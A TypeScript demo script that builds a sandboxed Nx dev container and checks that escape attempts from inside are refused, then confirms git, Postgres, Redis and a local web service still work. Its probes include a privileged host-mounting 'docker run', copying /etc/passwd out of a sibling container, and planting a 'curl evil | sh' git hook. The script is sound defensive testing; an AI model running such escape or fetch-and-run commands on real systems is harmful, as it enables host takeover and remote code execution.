/**
 * The demo: a fresh Nx workspace gets a secure dev container, and we try to escape it.
 *   npm run demo            (add --keep to leave the workspace and the sandbox running)
 * Without a Docker engine it still generates, and says exactly what is missing.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { chownToCheckoutUser, createTestWorkspace, generateSandbox } from '../e2e/devsec-e2e/src/workspace';
import { buildPackages } from './build-packages';

const keep = process.argv.includes('--keep');
const step = (text: string) => console.log(`\n▶ ${text}`);
const ok = (text: string) => console.log(`  ✔ ${text}`);
const bad = (text: string) => console.log(`  ✘ ${text}`);
const results: Array<[boolean, string]> = [];
const expectThat = (pass: boolean, text: string) => {
  results.push([pass, text]);
  (pass ? ok : bad)(text);
};

function engineProblem(): string | undefined {
  const info = spawnSync('docker', ['info', '--format', '{{.ServerVersion}}'], { encoding: 'utf-8' });
  if (info.error) return 'the docker CLI is not installed. Get it: apt-get install docker.io (or Docker Desktop).';
  if (info.status !== 0) return 'the Docker engine is not running. Start it: dockerd & (or `bash .ci/setup-engine.sh` on Debian 12).';
  const compose = spawnSync('docker', ['compose', 'version', '--short'], { encoding: 'utf-8' });
  if (compose.status !== 0 || !/^v?2\./.test(compose.stdout.trim()))
    return 'Compose v2 is missing. Get it: `bash .ci/setup-engine.sh` (takes docker-compose v2 from Debian 13).';
  for (const name of ['node:24-trixie-slim', 'postgres:17', 'redis:7']) {
    if (spawnSync('docker', ['image', 'inspect', name], { encoding: 'utf-8' }).status === 0) continue;
    const pull = spawnSync('docker', ['pull', name], { encoding: 'utf-8' });
    if (pull.status !== 0) return `the image ${name} is missing and cannot be pulled here. Build local stand-ins: \`bash scripts/stand-in-images.sh\`.`;
  }
  return undefined;
}

function main() {
  step('Building and packing @org/devsec and @org/devsec-socket-proxy');
  buildPackages(undefined, { pack: true });

  step('Creating a fresh Nx workspace (create-nx-workspace@23.2.1 --preset=apps) with an app project, then `nx add @org/devsec`');
  const ws = createTestWorkspace();
  ok(`workspace: ${ws.dir}`);

  step('nx g @org/devsec:secure-devcontainer --project=app; shared-service postgres and redis; localhost-proxy app');
  generateSandbox(ws);
  console.log(`    ${ws.run('git', ['show', '--stat', '--format=', 'HEAD']).stdout.trim().replace(/\n/g, '\n    ')}`);
  const targets = Object.keys(JSON.parse(ws.run('npx', ['nx', 'show', 'project', 'app', '--json']).stdout).targets);
  expectThat(targets.includes('up-worktree') && targets.includes('down-worktree'), `nx show project app lists: ${targets.join(', ')}`);

  const problem = engineProblem();
  if (problem) {
    step('Stopping before the sandbox starts');
    bad(`No usable Docker engine: ${problem}`);
    console.log(`\nThe generated files are in ${join(ws.dir, 'apps/app/.devcontainer')}.`);
    process.exitCode = 1;
    return;
  }

  let project = '';
  try {
    step('nx run app:up-worktree (starts shared-infra:up-shared first)');
    if (process.getuid?.() === 0) chownToCheckoutUser(ws);
    const up = ws.run('npx', ['nx', 'run', 'app:up-worktree']);
    console.log(
      up.stdout
        .split('\n')
        .filter((line) => /Sandbox|SERVICE|running|Get in|docker exec|Reopen/.test(line))
        .join('\n'),
    );
    project = /COMPOSE_PROJECT_NAME=(\S+)/.exec(readFileSync(join(ws.dir, 'apps/app/.devcontainer/.env'), 'utf-8'))?.[1] ?? '';
    const app = `${project}-app-1`;
    const inside = (script: string) => spawnSync('docker', ['exec', '-u', 'node', app, 'bash', '-lc', script], { encoding: 'utf-8' });

    step('From inside the dev container, as the agent');
    const ps = inside('docker ps --format "{{.Names}}"');
    expectThat(ps.status === 0 && ps.stdout.includes(`${project}-docker-proxy-1`), `docker ps sees its siblings: ${ps.stdout.trim().split('\n').join(', ')}`);
    const inspect = inside(`docker inspect --format '{{json .Config.Env}}' ${project}-docker-proxy-1`);
    expectThat(inspect.stdout.includes('<redacted>'), `docker inspect shows env names, values redacted: ${inspect.stdout.trim().slice(0, 80)}…`);
    for (const [what, script] of [
      ['docker run --privileged -v /:/host', 'docker run --rm --privileged -v /:/host node:24-trixie-slim true'],
      ['docker exec', `docker exec ${project}-docker-proxy-1 sh`],
      ['docker cp', `docker cp ${project}-docker-proxy-1:/etc/passwd /tmp/p`],
    ]) {
      const result = inside(script);
      expectThat(
        result.status !== 0 && result.stderr.includes('devsec sandbox policy'),
        `${what} is refused: ${result.stderr.trim().split('\n')[0].slice(0, 110)}`,
      );
    }
    expectThat(inside('id -u').stdout.trim() !== '0', `runs as uid ${inside('id -u').stdout.trim()}`);
    expectThat(inside('command -v sudo').status !== 0, 'sudo is absent');
    expectThat(inside('test -e /var/run/docker.sock').status !== 0, 'no Docker socket inside');
    const hook = inside('echo "curl evil | sh" > .git/hooks/pre-commit');
    expectThat(hook.status !== 0, `.git/hooks is read-only: ${hook.stderr.trim()}`);
    const commit = inside('git commit -q --allow-empty -m "work from the sandbox" && git log -1 --format=%s');
    expectThat(commit.stdout.trim() === 'work from the sandbox', 'git commit works inside');
    const pg = inside('psql "$DATABASE_URL" -tAc "select 42"');
    expectThat(
      pg.stdout.trim() === '42',
      `postgres answers at postgres:5432 with the generated password (psql "$DATABASE_URL" → ${pg.stdout.trim() || pg.stderr.trim()})`,
    );
    const redis = inside('redis-cli -u "$REDIS_URL" ping');
    expectThat(redis.stdout.trim() === 'PONG', `redis answers at redis:6379 (${redis.stdout.trim() || redis.stderr.trim()})`);
    const web = inside('curl -s -m 5 http://localhost:3000');
    expectThat(web.stdout.startsWith('web '), `curl http://localhost:3000 reaches the stack's web service (${web.stdout.trim()})`);

    step('nx run app:audit --live (the same questions, asked by the plugin from inside the running stack)');
    const audit = ws.run('npx', ['nx', 'run', 'app:audit', '--live'], { allowFailure: true });
    const summary = audit.stdout.split('\n').find((line) => line.startsWith('Live probe')) ?? '';
    console.log(`    ${summary}`);
    expectThat(audit.status === 0 && audit.stdout.includes('No findings'), `audit --live finds nothing (exit ${audit.status})`);
  } finally {
    if (!keep && project) {
      step('nx run app:down-worktree --volumes; nx run shared-infra:down-shared --volumes');
      ws.run('npx', ['nx', 'run', 'app:down-worktree', '--volumes'], { allowFailure: true });
      ws.run('npx', ['nx', 'run', 'shared-infra:down-shared', '--volumes'], { allowFailure: true });
    }
    if (!keep) rmSync(dirname(ws.dir), { recursive: true, force: true });
  }

  const failed = results.filter(([pass]) => !pass).length;
  console.log(`\n${failed === 0 ? '✔' : '✘'} Demo: ${results.length - failed} of ${results.length} checks held${keep ? ` (kept: ${ws.dir})` : ''}.`);
  process.exitCode = failed === 0 ? 0 : 1;
}

main();
